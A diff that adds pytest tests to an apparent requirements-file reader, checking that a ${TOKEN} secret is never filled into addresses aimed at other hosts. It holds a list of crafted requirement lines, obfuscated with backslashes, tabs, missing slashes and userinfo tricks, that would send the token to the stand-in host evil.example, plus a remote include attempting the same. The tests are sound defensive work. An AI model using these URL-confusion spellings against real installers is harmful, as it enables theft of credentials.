@@ -459,3 +459,55 @@ def test_a_stranger_is_told_no_secret(tmp_path: Path) -> None:
     assert "s3cret" not in f"{asked}{found.options.index_url}{found.problems}"
     wrong = [problem.place.line for problem in found.problems if problem.place]
     assert wrong == [1, 2, 4]
+
+
+STRANGE = [
+    "-r https://own.example\\@evil.example/${TOKEN}",
+    "-r http:/\t/evil.example/${TOKEN}",
+    "--extra-index-url https://own.example\t@evil.example/${TOKEN}",
+    "-r http:/evil.example/${TOKEN}",
+    "alpha @ git+https://own.example@evil.example/${TOKEN}",
+    "-i https://evil.example/${TOKEN}",
+]
+
+
+@pytest.mark.parametrize("line", STRANGE)
+def test_no_spelling_of_an_address_tells_a_stranger_a_secret(line: str, tmp_path: Path) -> None:
+    """Whatever an address may be taken for, a variable is filled in for the user's own hosts alone."""
+    (tmp_path / "requirements.txt").write_text(f"{line}\n", encoding="utf-8")
+    fetched: list[str] = []
+
+    def fetch(url: str) -> bytes:
+        fetched.append(url)
+        return b""
+
+    found = requirements.read(
+        (str(tmp_path / "requirements.txt"),), {"TOKEN": "secret"}, fetch, None, {"own.example"}.__contains__
+    )
+    assert not any("secret" in each for each in fetched)
+    assert "secret" not in f"{found.options} {[each.text for each in found.requirements]}"
+    assert any("variable" in str(problem) for problem in found.problems)
+
+
+def test_a_file_from_a_server_is_told_nothing(tmp_path: Path) -> None:
+    """What it includes is looked for on its own server: a variable in such a line would go there."""
+    (tmp_path / "requirements.txt").write_text("-r http://evil.example/inc.txt\n", encoding="utf-8")
+    fetched: list[str] = []
+
+    def fetch(url: str) -> bytes:
+        fetched.append(url)
+        return b"-r ${TOKEN}\n-r //evil.example/two/${TOKEN}\n-c sub/${TOKEN}.txt\n" if url.endswith("inc.txt") else b""
+
+    requirements.read(
+        (str(tmp_path / "requirements.txt"),), {"TOKEN": "secret"}, fetch, None, {"own.example"}.__contains__
+    )
+    assert fetched
+    assert not any("secret" in each for each in fetched)
+
+
+def test_a_pipe_that_a_file_names_is_not_waited_for(tmp_path: Path) -> None:
+    """Only who types a path may mean a pipe: one that is named inside of what is audited may never end."""
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "requirements.txt").write_text("-r pipe\n", encoding="utf-8")
+    found = requirements.read((str(tmp_path / "requirements.txt"),), {})
+    assert ["is not a file" in problem.what for problem in found.problems] == [True]
